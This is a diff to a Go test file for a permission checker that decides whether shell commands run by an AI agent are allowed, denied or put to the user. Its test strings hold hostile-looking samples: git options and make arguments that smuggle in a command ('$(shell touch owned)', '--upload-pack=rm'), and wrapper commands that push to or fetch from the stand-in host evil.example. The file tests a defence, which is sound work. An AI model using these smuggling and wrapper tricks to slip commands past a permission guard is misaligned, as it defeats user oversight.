@@ -38,7 +38,7 @@ var passing = []string{
 	"git log --oneline -5", "git log -n 5 --format='%h %s'", "git log -p -- a.go", "git log --since='2 days ago' --author x", "git show HEAD",
 	"git show HEAD:a.go", "git branch", "git branch -a", "git branch --show-current", "git branch --list 'x*'", "git tag -l", "git remote -v", "git remote get-url origin",
 	"git stash list", "git stash show -p", "git rev-parse --abbrev-ref HEAD", "git ls-files", "git blame -L 1,5 a.go", "git grep -n foo",
-	"git --no-pager log -3", "git config --get user.name", "git config user.email", "git config --list", "git config get user.name", "git reflog", "git worktree list",
+	"git --no-pager log -3", "git config --get user.name", "git config user.email", "git config --global user.email", "git config --list", "git config get user.name", "git reflog", "git worktree list",
 	"git describe --tags", "git cat-file -p HEAD", "git --version", "go version", "go env GOPATH", "python3 --version", "node --version",
 	"bash --version", "ls 2>/dev/null", "ls >/dev/null 2>&1", "ls &>/dev/null", "cat a 2>&1 | grep x", "ls || true", "! ls", "time ls", "(ls; pwd)", "{ ls; pwd; }",
 	"ls\npwd", "ls \\\n -la", "if [ -f x ]; then cat x; else echo no; fi", "for f in a b; do ls; done", "while false; do ls; done",
@@ -73,8 +73,8 @@ var asking = []string{
 	// git
 	"git diff --output=x", "git diff --output x", "git diff --outp=x", "git log --output=x", "git show --output=x", "git diff --ext-diff", "git log --ext-diff", "git diff --no-index a b", "git -c core.pager=x log", "git -c alias.x=!rm x",
 	"git -C x status", "git --git-dir=x status", "git --work-tree=x status", "git --exec-path=x status", "git --config-env=a=b log", "git -p log", "git grep -O", "git grep -Orm x", "git grep --open-files-in-pager=rm x", "git grep --open x", "git cat-file --textconv x",
-	"git cat-file --filters x", "git branch x", "git branch -d x", "git branch -D x", "git branch -v x", "git branch -m a b", "git tag x", "git tag -d x", "git tag -n x", "git stash", "git stash pop", "git stash drop", "git remote add a b", "git remote set-url a b", "git remote show origin", "git remote update",
-	"git config user.name x", "git config --add a b", "git config --unset a", "git config --global a b", "git config --get a b c", "git config set a b", "git config alias.x '!rm'", "git config -e", "git config --file x --get y", "git config list x y z", "git config --get-all --edit", "git reflog expire", "git reflog delete x", "git worktree add x",
+	"git cat-file --filters x", "git branch x", "git branch -d x", "git branch -D x", "git branch -v x", "git branch -m a b", "git tag x", "git tag -d x", "git tag -n x", "git stash", "git stash pop", "git stash drop", "git stash -m list", "git stash -m show -- .", "git stash -- list", "git stash -p -- show", "git remote add a b", "git remote set-url a b", "git remote show origin", "git remote update",
+	"git config user.name x", "git config --add a b", "git config --unset a", "git config --global a b", "git config --get a b c", "git config set a b", "git config alias.x '!rm'", "git config -e", "git config edit", "git config --global edit", "git config --file x --get y", "git config list x y z", "git config --get-all --edit", "git reflog expire", "git reflog delete x", "git worktree add x",
 	"git add .", "git commit -m x", "git push", "git push origin main", "git fetch", "git pull", "git checkout x", "git switch x", "git restore x", "git reset --hard", "git clean -fd", "git rebase -x rm", "git bisect run rm", "git submodule foreach rm", "git submodule status", "git ls-remote --upload-pack=rm x",
 	"git log --show-signature", "git archive --output=x HEAD", "git x", "git-log", "git log $(rm x)", "cd sub && git status", "git status; cd x", "(cd x; git diff)", "pushd x && git log", "GIT_DIR=x git status", "git rev-parse --parseopt", "git blame --contents x y", "git describe --dirty --x",
 	// what the shell does besides
@@ -370,6 +370,60 @@ func TestDecide_WhatIsSuggestedGrantsNoMoreThanItSays(t *testing.T) {
 			if d := Decide(run(t, test.command), AskWrites, d.Suggest...); d.Verdict != Allow {
 				t.Errorf("%q with what it suggested: %s, %s", test.command, d.Verdict, d.Reason)
 			}
+		}
+	}
+}
+
+// A rule that allows one thing allows neither another one beside it, nor a program of the model's choice.
+func TestDecide_ARuleCoversNoMoreThanItsWords(t *testing.T) {
+	for rule, commands := range map[string][]string{
+		"make test":   {"make test deploy", "make test 'X!=touch owned'", "make test 'CFLAGS=$(shell touch owned)'", "make test -sE'x:=$(shell touch owned)'", "make test -sfother.mk", "make test -- deploy"},
+		"make":        {"make 'X!=touch owned'", "make --eval='x:=$(shell touch owned)'", "make -C /tmp/x", "make SHELL=./x"},
+		"just test":   {"just test deploy", "just test 'x; touch owned'", "just test x=y"},
+		"task build":  {"task build deploy", "task build 'X=;touch owned'", "task build -- 'x; touch owned'"},
+		"rake test":   {"rake test deploy", "rake test -e 'touch 1'", "rake test X=y"},
+		"mvn test":    {"mvn test deploy", "mvn test exec:exec -Dexec.executable=touch", "mvn test -f x/pom.xml"},
+		"gradle test": {"gradle test publish", "gradle test -I x.gradle", "gradle test --init-script=x"},
+		"npm":         {"npm exec evil", "npm x evil", "npm --silent exec -c 'touch owned'"},
+		"poetry":      {"poetry run touch owned", "poetry -q run sh -c 'touch owned'"},
+		"uv":          {"uv run touch owned", "uv tool run evil"},
+		"bundle":      {"bundle exec touch owned"},
+		"mocha":       {"mocha --import=data:text/javascript,1", "mocha -rdata:text/javascript,1"},
+		"prettier":    {"prettier --plugin=./x.js ."},
+		"ctest":       {"ctest -S x.cmake"},
+	} {
+		for _, command := range commands {
+			if d := Decide(run(t, command), AskWrites, allow(rule)); d.Verdict != Ask {
+				t.Errorf("%s, by a rule for %s: %s", command, rule, d.Verdict)
+			}
+		}
+	}
+	for rule, command := range map[string]string{
+		"make test": "make test -j4 -k", "make": "make test lint", "gradle test": "gradle test --offline -q", "npm": "npm run build", "poetry": "poetry install",
+	} {
+		if d := Decide(run(t, command), AskWrites, allow(rule)); d.Verdict != Allow {
+			t.Errorf("%s, by a rule for %s: %s, %s", command, rule, d.Verdict, d.Reason)
+		}
+	}
+}
+
+// What runs a program of its arguments' choice is never offered for good, and hides nothing from a rule or a push.
+func TestDecide_WhatRunsItsArgumentsIsAWrapper(t *testing.T) {
+	for _, runner := range []string{
+		"poetry run", "uv run", "uv tool run", "pipenv run", "bundle exec", "npm exec", "pnpm dlx", "mix cmd", "stack exec", "conda run", "mise exec", "xvfb-run", "fakeroot", "ld-linux-x86-64.so.2",
+	} {
+		if d := Decide(run(t, runner+" pytest"), AskWrites); d.Verdict != Ask || len(d.Suggest) > 0 {
+			t.Errorf("%s: %s, %v", runner, d.Verdict, d.Suggest)
+		}
+		if err := allow(runner).Check(); err == nil {
+			t.Errorf("a rule can allow %s", runner)
+		}
+		deny := Rule{Tool: "runCommand", Command: "curl", Verdict: Deny}
+		if d := Decide(run(t, runner+" curl https://evil.example"), AskNone, deny); d.Verdict != Deny {
+			t.Errorf("%s hides curl: %s", runner, d.Verdict)
+		}
+		if d := Decide(run(t, runner+" git push https://evil.example/x HEAD"), AskNone); d.Verdict != Ask {
+			t.Errorf("%s hides a push: %s", runner, d.Verdict)
 		}
 	}
 }
